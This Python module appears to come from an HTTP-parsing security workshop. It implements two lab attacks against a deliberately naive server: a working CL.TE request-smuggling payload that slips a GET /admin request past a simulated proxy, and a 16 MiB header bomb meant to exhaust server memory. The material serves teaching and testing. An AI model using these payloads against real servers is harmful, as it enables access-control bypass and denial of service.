r"""Two attacks on a request parser: a request inside a request, and a head without an end.

Run them with `python3 -m workshop attack 2`. The first one plays three parts: an attacker, a
visitor, and the proxy between them and the server, which keeps everybody away from /admin.
"""

import socket

from workshop.attacks import Attack, Outcome, Target

MIB = 1 << 20
BOMB = 16 * MIB  # bytes of header fields: 250 times what any browser sends
GUARD = 20.0  # seconds; only so that a broken server cannot hold the attack for ever

HIDDEN = b"GET /admin HTTP/1.1\r\nHost: shop.example\r\n\r\n"
BODY = b"0\r\n\r\n" + HIDDEN  # to one reader an empty chunked body and a request, to another a body
SMUGGLER = (
    b"POST / HTTP/1.1\r\nHost: shop.example\r\nContent-Length: %d\r\n"
    b"Transfer-Encoding: chunked\r\n\r\n%b" % (len(BODY), BODY)
)
VISITOR = b"GET / HTTP/1.1\r\nHost: shop.example\r\n\r\n"


class Front:
    """A proxy: frames by Content-Length alone, refuses /admin, keeps one connection upstream."""

    def __init__(self, target: Target) -> None:
        self._target = target
        self._upstream = target.connect()

    def forward(self, data: bytes) -> bytes:
        """Split the bytes into requests, as this proxy reads them; the answer to the last one."""
        response = b""
        while data:
            request, data = self.first_request(data)
            if request.split(b" ")[1].startswith(b"/admin"):
                return b"HTTP/1.1 403 Forbidden\r\n\r\n"
            response = self.exchange(request)
        return response

    def first_request(self, data: bytes) -> tuple[bytes, bytes]:
        """The first request and the rest: Content-Length decides, nothing else is looked at."""
        head, _, _ = data.partition(b"\r\n\r\n")
        end = len(head) + 4
        for line in head.split(b"\r\n"):
            name, _, value = line.partition(b":")
            if name.lower() == b"content-length":
                end += int(value)
        return data[:end], data[end:]

    def exchange(self, request: bytes) -> bytes:
        """One request upstream, one answer back; a closed connection is opened again."""
        self._upstream.send(request)
        response = self._upstream.read_response()
        if response.header("connection") == "close":
            self._upstream.close()
            self._upstream = self._target.connect()
        return response.raw

    def close(self) -> None:
        """Leave."""
        self._upstream.close()


def smuggle(target: Target) -> Outcome:
    """Hide a request for /admin in a body; the attack wins if a visitor is given its answer."""
    front = Front(target)
    first, rest = front.first_request(SMUGGLER)
    attackers = front.forward(SMUGGLER)
    visitors = front.forward(VISITOR)
    front.close()
    won = b"admin page" in visitors
    saw = [
        f"the front sees   1 request: POST /, {len(BODY)} bytes of body, {len(rest)} bytes left",
        f"the back answers {status_line(attackers)}",
        "then a visitor   GET /",
        f"is given         {status_line(visitors)}  {last_line(visitors)}",
        "So the back read 2 requests: POST /, GET /admin" if won else "Nobody reads /admin.",
    ]
    assert first == SMUGGLER
    return Outcome(won, "\n".join(saw))


def status_line(response: bytes) -> str:
    """The first line of a response."""
    return response.partition(b"\r\n")[0].decode("latin-1")


def last_line(response: bytes) -> str:
    """The last line of a response's body."""
    return repr(response.rstrip().rpartition(b"\n")[2].decode())


def header_bomb(target: Target) -> Outcome:
    """Send 16 MiB of header fields and no end; the attack wins if the server takes them all."""
    before, sent = target.rss(), 0
    lines = b"X-Bomb: " + b"x" * 4086 + b"\r\n"
    with socket.create_connection(target.address, GUARD) as client:
        client.sendall(b"GET / HTTP/1.1\r\nHost: shop.example\r\n")
        try:
            while sent < BOMB:
                client.sendall(lines * 16)
                sent += len(lines) * 16
            client.sendall(b"\r\n")
            answer = client.recv(65536)
        except ConnectionError:
            answer = b""
        after = target.rss()
    took = answer.startswith(b"HTTP/1.1 200")
    saw = f"took {sent >> 20} MiB of fields" if took else "refused before the head had an end"
    if answer:
        saw += f"\nanswered {status_line(answer)}"
    if before is not None and after is not None:
        saw += f"\nits memory grew by {(after - before) / MIB:.1f} MiB"
    return Outcome(took, saw)


ATTACKS = (
    Attack(
        "A request inside a request (CL.TE smuggling)",
        story="The proxy in front reads Content-Length, the server behind it Transfer-Encoding. "
        "Who gets the answer to the request that only one of them has seen?",
        victim="naive",
        run=smuggle,
    ),
    Attack(
        "A header bomb",
        story="A head of 16 MiB, one field after another. Who decides how much the server keeps?",
        victim="naive",
        run=header_bomb,
    ),
)
